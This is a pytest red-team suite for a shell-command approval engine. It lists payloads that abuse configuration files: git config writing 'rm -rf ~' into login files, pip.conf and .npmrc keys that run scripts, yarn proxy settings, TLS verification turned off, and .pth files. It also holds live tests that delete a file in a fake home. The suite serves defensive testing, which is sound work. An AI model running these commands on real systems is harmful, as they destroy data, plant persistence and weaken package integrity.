"""cfg49 (stop 49, issue 8): configuration files that make a program run code or trust a source.

The family: the caller writes a file a program reads later as its configuration, or sets a key or a variable,
and the program then runs a command it names, loads a module, re-runs itself under an interpreter, or takes its
packages from a place nobody authenticates. Fixed here (each was allowed, now asks):

- `git config --file=F` / `-f F` (also after `set`), and GIT_CONFIG, GIT_CONFIG_GLOBAL with --global,
  GIT_CONFIG_SYSTEM with --system, write F: judged as `tee F` (git's `config` verb in policies/executors.yaml), so
  `git config --file=$HOME/.bash_profile a.b 'c || rm -rf ~'` writes a login file (asks) and `-f
  policies/deny.yaml` the engine's own policy (denied). --global / --system alone write git's own files, whose
  keys git_exec_config judges (`git config --global user.name x` stays allowed).
- pip.conf's keys pip reads as a program or a source (`python`: pip >= 22.3 re-runs itself under it;
  `requirement`, `editable`, `constraint`, `log`, `keyring-provider`), npm's `call` (what `npm exec` runs) and
  `package`, yarn's berry `httpsProxy` / `httpProxy` / `npmPublishRegistry` / `npmRegistries` /
  `injectEnvironmentFiles`: in the `package_sources:` rows' `settings:`, so a written file holding one is not a
  write of settings only; the same keys through `pip config set` / `npm config set` (package_manager_exec_config)
  and npm_config_call.
- keys are matched with `-`, `_` and case folded, camel case too (executors._folded): yarn 1's `yarn-path` is
  berry's `yarnPath`, `YARN_PATH` and `keyring_provider` as well.
- a settings write is read where the line's `cd` put it (shell._record_writes through _file_key): with the
  project at ~/p, `cd ..; printf '[global]\\npython = ./p/x.sh\\n' > .config/pip/pip.conf` asks; after a `cd` to
  a place not known here no write is of settings only.
- an append (`>>`) to a package manager's file is read with the file's last unended line (`printf './x.js\\n' >>
  .npmrc` after `node-options=--require ` makes `node-options=--require ./x.js`): `printf 'fund=false\\n' >> .npmrc`
  is allowed now (it asked), an append that completes a key asks.
- TLS verification off or a host trusted without it, for a package install or a fetch: `--trusted-host h`,
  PIP_TRUSTED_HOST, uv's `--allow-insecure-host` / UV_INSECURE_HOST, GIT_SSL_NO_VERIFY, `git -c
  http[.URL].sslVerify=false`, `git config http.sslVerify false`, NODE_TLS_REJECT_UNAUTHORIZED=0 for npm,
  npm_config_strict_ssl=false, `npm --strict-ssl=false`, `npm config set strict-ssl false`: read as an index of the
  caller's is (`pip install --index-url http://h` asks: `as: file, indirect: true`).
- a write into a dot folder of the home (`printf x > ~/.config/foo.txt`, a user site-packages `.pth` under
  ~/.local/lib, ~/.cache): a new path class `home_config` (policies/paths.yaml: every file of the home's dot
  folders), read by the write rows only (`rm ~/.cache/*` stays allowed). Other families' near misses that wrote
  there (`echo x > ~/.config/ghostty/config`: ghostty runs its `command =`; VS Code's settings.json; ~/.local/share;
  ~/.ssh-backup/) ask now by design and left their lists.

Open at cfg49, closed by cfg50 (test_tls_spellings_closed): `npm install --no-strict-ssl`, TLS turned off through
git's GIT_CONFIG_PARAMETERS / GIT_CONFIG_COUNT forms, pip's PIP_CERT.
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import home_intact
from tests.redteam.harm import Case, assert_verdict, policy_project, project_in_home, run_confined, verdict_cases


def _prepare(root: Path, _mp: pytest.MonkeyPatch) -> None:
    """Two package folders with an .npmrc on disk: one whose last line has no newline (a key waiting for its
    value), one ended; and a script the session may name."""
    (root / "sub").mkdir()
    (root / "sub" / ".npmrc").write_text("save-exact=true\nnode-options=--require ")
    (root / "ok").mkdir()
    (root / "ok" / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
    (root / "a.py").write_text("print(1)\n")
    (root / "x.sh").write_text("echo hi\n")


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Engine]]:
    with policy_project(tmp_path_factory, "cfg49", "kind: ApprovalPolicy\n", _prepare) as project:
        yield project


_CONF = "PIP_CONFIG_FILE=pip.conf pip install x"
PAYLOADS: dict[str, Case] = {
    # git config writes the file --file names
    "config-file-profile": ({}, "git config --file=$HOME/.bash_profile a.b 'c || rm -rf ~'"),
    "config-f-profile": ({}, "git config -f ~/.bash_profile a.b 'c || rm -rf ~'"),
    "config-set-f-bashrc": ({}, "git config set -f ~/.bashrc a.b 'c || rm -rf ~'"),
    "config-file-space-zshrc": ({}, "git config --file ~/.zshrc a.b 'c; rm -rf ~'"),
    "config-file-policy": ({}, "git config --file policies/deny.yaml a.b c"),
    "config-file-engine-config": ({}, "git config -f hermes-engine.yaml a.b c"),
    "config-env-profile": ({}, "GIT_CONFIG=~/.profile git config a.b 'c; rm -rf ~'"),
    "config-global-env-zshrc": ({}, "GIT_CONFIG_GLOBAL=~/.zshrc git config --global a.b 'c; rm -rf ~'"),
    "config-system-env-profile": ({}, "GIT_CONFIG_SYSTEM=~/.profile git config --system a.b 'c; rm -rf ~'"),
    # pip.conf keys pip runs or installs
    "pip-python": ({}, "printf '[global]\\npython = ./x.sh\\n' > pip.conf; " + _CONF),
    "pip-python-venv": ({}, "printf '[global]\\npython = ./x.sh\\n' > .venv/pip.conf; .venv/bin/pip install six"),
    "pip-requirement": ({}, "printf '[install]\\nrequirement = r.txt\\n' > .venv/pip.conf; .venv/bin/pip install x"),
    "pip-editable-caps": ({}, "printf '[install]\\nEDITABLE = git+http://h.example/r\\n' > pip.conf; " + _CONF),
    "pip-constraint": ({}, "printf '[install]\\nconstraint = http://h.example/c.txt\\n' > pip.conf; " + _CONF),
    "pip-log-bashrc": ({}, "printf '[global]\\nlog = ~/.bashrc\\n' > pip.conf; " + _CONF),
    "pip-keyring-underscore": ({}, "printf '[global]\\nkeyring_provider = subprocess\\n' > pip.conf; " + _CONF),
    "pip-config-set-python": ({}, "pip config set global.python ./x.sh"),
    "pip-config-set-requirement": ({}, "pip config set install.requirement r.txt"),
    # npm: call (what `npm exec` runs), package, and an append that completes a key
    "npm-call": ({}, "printf 'call=rm -rf ~\\n' > .npmrc; npm exec --offline"),
    "npm-call-kebab-caps": ({}, "printf 'CALL = rm -rf ~\\n' > .npmrc; npm exec"),
    "npm-package": ({}, "printf 'package=evil-pkg\\n' > .npmrc; npm exec evil"),
    "npm-config-set-call": ({}, "npm config set call 'rm -rf ~'"),
    "npm-call-env": ({}, "npm_config_call='rm -rf ~' npm exec"),
    "npm-append-completes-a-key": ({}, "printf './x.js\\n' >> sub/.npmrc"),
    # yarn: 1's kebab case, berry's proxies, publish registry, environment files
    "yarn1-yarn-path": ({}, "printf 'yarn-path: ./x.js\\n' > .yarnrc; yarn install"),
    "yarn1-yarn-path-spaced": ({}, "printf 'yarn-path \"./x.js\"\\n' > .yarnrc; yarn install"),
    "yarn-path-snake": ({}, "printf 'YARN_PATH: ./x.js\\n' > .yarnrc.yml; yarn install"),
    "yarn-https-proxy": ({}, "printf 'httpsProxy: http://h.example:8080\\n' > .yarnrc.yml; yarn install"),
    "yarn-https-proxy-kebab": ({}, "printf 'https-proxy: http://h.example:8080\\n' > .yarnrc.yml; yarn install"),
    "yarn-publish-registry": ({}, "printf 'npmPublishRegistry: http://h.example/\\n' > .yarnrc.yml; yarn npm publish"),
    "yarn-inject-env": ({}, "printf 'injectEnvironmentFiles: [.env.x]\\n' > .yarnrc.yml; yarn run t"),
    # TLS off, a host trusted without it
    "pip-trusted-host-env": ({}, "PIP_TRUSTED_HOST=h.example pip install x"),
    "pip-trusted-host": ({}, "pip install --trusted-host h.example x"),
    "pip-trusted-host-global": ({}, "pip --trusted-host=h.example download x"),
    "uv-insecure-host": ({}, "uv pip install --allow-insecure-host h.example x"),
    "uv-insecure-host-env": ({}, "UV_INSECURE_HOST=h.example uv sync"),
    "git-ssl-no-verify": ({}, "GIT_SSL_NO_VERIFY=1 git clone https://h.example/r"),
    "git-c-sslverify": ({}, "git -c http.sslVerify=false clone https://h.example/r"),
    "git-c-url-sslverify": ({}, "git -c http.https://h.example/.sslVerify=0 fetch"),
    "git-config-sslverify": ({}, "git config --global http.sslVerify false"),
    "node-tls-npm": ({}, "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install"),
    "npm-strict-ssl-set": ({}, "npm config set strict-ssl false"),
    "npm-strict-ssl-option": ({}, "npm install --strict-ssl=false"),
    "npm-strict-ssl-global-option": ({}, "npm --strict-ssl=false ci"),
    "npm-strict-ssl-env": ({}, "npm_config_strict_ssl=false npm ci"),
    # the home's dot folders
    "config-folder": ({}, "printf x > ~/.config/foo.txt"),
    "user-site-pth": ({}, "printf 'import os\\n' > ~/.local/lib/python3.11/site-packages/x.pth"),
    "cp-into-config": ({}, "cp a.py ~/.config/x/x.py"),
    "tee-into-local-share": ({}, "echo x | tee ~/.local/share/x.desktop"),
    "home-dot-folder": ({}, "printf x >> $HOME/.cache/pre-commit/x.sh"),
}

NEAR_MISSES: dict[str, Case] = {
    "git-config-user": ({}, "git config user.name x"),
    "git-config-local": ({}, "git config --local core.autocrlf false"),
    "git-config-global-user": ({}, "git config --global user.name x"),
    "git-config-global-alias": ({}, "git config --global alias.co checkout"),
    "git-config-file-project": ({}, "git config -f .gitmodules submodule.x.url https://h.example/r"),
    "git-config-get": ({}, "git config --get user.name"),
    "git-config-list": ({}, "git config -l"),
    "npmrc-append": ({}, "printf 'fund=false\\n' >> .npmrc"),
    "npmrc-append-ended": ({}, "printf 'fund=false\\n' >> ok/.npmrc"),
    "npmrc-settings": ({}, "printf 'save-exact=true\\n' > .npmrc; npm install"),
    "npmrc-settings-after-cd": ({}, "cd ok && printf 'save-exact=true\\n' > .npmrc"),
    "pip-settings": ({}, "printf '[global]\\ntimeout = 60\\n' > pip.conf; " + _CONF),
    "pip-config-list": ({}, "pip config list"),
    "pip-config-set-timeout": ({}, "pip config set global.timeout 60"),
    "npm-config-get": ({}, "npm config get registry"),
    "npm-config-set-fund": ({}, "npm config set fund false"),
    "yarn-settings": ({}, "printf 'nodeLinker: node-modules\\n' > .yarnrc.yml; yarn install"),
    "pip-install": ({}, "pip install requests"),
    "npm-install": ({}, "npm install"),
    "git-clone": ({}, "git clone https://github.com/o/r"),
    "git-sslverify-true": ({}, "git -c http.sslVerify=true clone https://h.example/r"),
    "node-tls-on": ({}, "NODE_TLS_REJECT_UNAUTHORIZED=1 npm install"),
    "npm-strict-ssl-true": ({}, "npm install --strict-ssl=true"),
    "write-project": ({}, "printf x > out.txt"),
    "write-tmp": ({}, "echo x > /tmp/cfg49-x.txt"),
    "read-config": ({}, "cat ~/.config/foo.txt"),
    "ls-config": ({}, "ls ~/.config"),
    "mkdir-config": ({}, "mkdir -p ~/.config/x"),
    "write-home-top": ({}, "printf x > ~/notes2.txt"),
    "rm-cache": ({}, "rm ~/.cache/*"),
    "rm-cache-file": ({}, "rm -f ~/.cache/pip/selfcheck.json"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(PAYLOADS, NEAR_MISSES))
def test_cfg49_verdicts(loaded: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(loaded, case, allowed, session)


def test_git_config_of_the_policy_is_denied(loaded: tuple[Path, Engine]) -> None:
    """The engine's own policy written by `git config -f` is what `>> policies/deny.yaml` is: denied."""
    assert loaded[1].check("git config --file policies/deny.yaml a.b c").decision == "deny"


# (cfg50) were strict xfails: the negated flag is an option run's `default:`, git's variable forms of -c are read for
# sslVerify, PIP_CERT is pip's --cert (a CA bundle the caller names)
CLOSED: dict[str, str] = {
    "npm-no-strict-ssl": "npm install --no-strict-ssl",
    "git-config-parameters-sslverify": "GIT_CONFIG_PARAMETERS=\"'http.sslVerify'='false'\" git clone https://h.example/r",
    "pip-cert-env": "PIP_CERT=ca.pem pip install x",
}


@pytest.mark.parametrize("command", list(CLOSED.values()), ids=list(CLOSED))
def test_tls_spellings_closed(loaded: tuple[Path, Engine], command: str) -> None:
    assert_verdict(loaded, ({}, command), False, "closed")


# -- 6. a settings write after `cd ..`, the project in the home ------------------------------------------------------
@pytest.fixture(scope="module")
def in_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Engine]]:
    """A project at ~/p (its parent the home) with a folder sub/, as the working directory (harm.project_in_home)."""
    with project_in_home(tmp_path_factory, "cfg49-home", ("sub",)) as loaded:
        yield loaded


@pytest.mark.parametrize(
    ("case", "allowed", "session"),
    verdict_cases(
        {
            "cd-up-pip": ({}, "cd ..; printf '[global]\\npython = ./p/x.sh\\n' > .config/pip/pip.conf"),
            "cd-up-pip-settings": ({}, "cd .. && printf '[global]\\ntimeout = 60\\n' > .config/pip/pip.conf"),
            "cd-up-npmrc": ({}, "cd ..; printf 'fund=false\\n' > .npmrc"),
            "cd-sub-up-up": ({}, "cd sub; cd ../..; printf 'fund=false\\n' >> .npmrc"),
            "cd-home": ({}, "cd ~ && printf 'save-exact=true\\n' > .npmrc"),
            "cd-unknown": ({}, "cd \"$D\"; printf 'fund=false\\n' > .npmrc"),
            "pushd-up": ({}, "pushd .. >/dev/null; printf 'fund=false\\n' > .npmrc"),
        },
        {
            "settings-here": ({}, "printf 'save-exact=true\\n' > .npmrc; npm install"),
            "cd-sub": ({}, "cd sub && printf 'fund=false\\n' > .npmrc"),
            "cd-sub-and-back": ({}, "cd sub; cd ..; printf 'fund=false\\n' > .npmrc"),
        },
    ),
)
def test_settings_write_after_cd(in_home: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(in_home, case, allowed, session)


# -- the harm, unguarded (a fake HOME) --------------------------------------------------------------------------------
_NOTE_GONE = "rm -f ~/notes.txt"


@pytest.mark.parametrize(
    "writer",
    [
        "git config -f ~/.bash_profile a.b 'c || rm -f ~/notes.txt'",
        "GIT_CONFIG=$HOME/.bash_profile git config a.b 'c || rm -f ~/notes.txt'",
        "GIT_CONFIG_GLOBAL=$HOME/.bash_profile git config --global a.b 'c || rm -f ~/notes.txt'",
    ],
)
def test_git_config_writes_a_login_file_live(tmp_path: Path, writer: str) -> None:
    """git config writes `[a]` / `b = c || rm ...` into the login file; the next login shell runs the line."""
    home, _, printed = run_confined(tmp_path, writer + "; bash -l -c true")
    assert (home / ".bash_profile").is_file() and not (home / "notes.txt").exists(), printed
    near, _, _ = run_confined(tmp_path / "near", "git config -f x.cfg a.b 'c || rm -f ~/notes.txt'; bash -l -c true")
    assert home_intact(near)


_X_JS = 'printf \'require("fs").rmSync(process.env.HOME + "/notes.txt")\\n\' > x.js && '
_PACKAGE = 'printf \'{"name":"a","version":"1.0.0","scripts":{"t":"node -e 1"}}\' > package.json && '


@pytest.mark.skipif(shutil.which("npm") is None, reason="no npm")
def test_an_append_completes_node_options_live(tmp_path: Path) -> None:
    """An .npmrc ending in `node-options=--require ` (no newline): the appended `./x.js` makes the key, and every
    script npm runs loads x.js (the note deleted); appended after an ended line it is a key of its own."""
    run = _X_JS + _PACKAGE + "printf './x.js\\n' >> .npmrc; npm run t --offline"
    home, _, printed = run_confined(tmp_path, "printf 'node-options=--require ' > .npmrc; " + run)
    assert not (home / "notes.txt").exists(), printed
    near, _, _ = run_confined(tmp_path / "near", "printf 'fund=false\\n' > .npmrc; " + run)
    assert home_intact(near)


@pytest.mark.skipif(not Path("/usr/bin/python3").exists(), reason="no system python")
def test_a_user_site_pth_runs_at_every_python_start_live(tmp_path: Path) -> None:
    """A `.pth` line starting `import` in the home's user site-packages (under ~/.local/lib) runs at every start of
    the system's python; a text file next to it runs nothing."""
    site = (
        "~/.local/lib/python$(/usr/bin/python3 -c 'import sys; print(\"%d.%d\" % sys.version_info[:2])')/site-packages"
    )
    code = 'import os; os.remove(os.path.expanduser("~/notes.txt"))'
    home, _, printed = run_confined(
        tmp_path, f"mkdir -p {site} && printf '{code}\\n' > {site}/x.pth; /usr/bin/python3 -c pass"
    )
    assert not (home / "notes.txt").exists(), printed
    near, _, _ = run_confined(
        tmp_path / "near", f"mkdir -p {site} && printf '{code}\\n' > {site}/x.txt; /usr/bin/python3 -c pass"
    )
    assert home_intact(near)


def test_pip_conf_keys_run_live(tmp_path: Path) -> None:
    """pip re-runs itself under pip.conf's `python` (x.sh deletes the note); a `timeout` key runs nothing."""
    script = "printf '#!/bin/sh\\nrm -f \"$HOME/notes.txt\"\\n' > x.sh && chmod +x x.sh && "
    pip = f"PIP_CONFIG_FILE=pip.conf {sys.executable} -m pip install --no-index six"
    home, _, printed = run_confined(tmp_path, script + f"printf '[global]\\npython = ./x.sh\\n' > pip.conf; {pip}")
    assert not (home / "notes.txt").exists(), printed
    near, _, _ = run_confined(tmp_path / "near", script + f"printf '[global]\\ntimeout = 60\\n' > pip.conf; {pip}")
    assert home_intact(near)


@pytest.mark.skipif(shutil.which("npm") is None, reason="no npm")
def test_npm_call_variable_runs_live(tmp_path: Path) -> None:
    """npm_config_call is `call`: `npm exec` without a command runs it with a shell."""
    home, _, printed = run_confined(tmp_path, f"npm_config_call='{_NOTE_GONE}' npm exec --offline")
    assert not (home / "notes.txt").exists(), printed
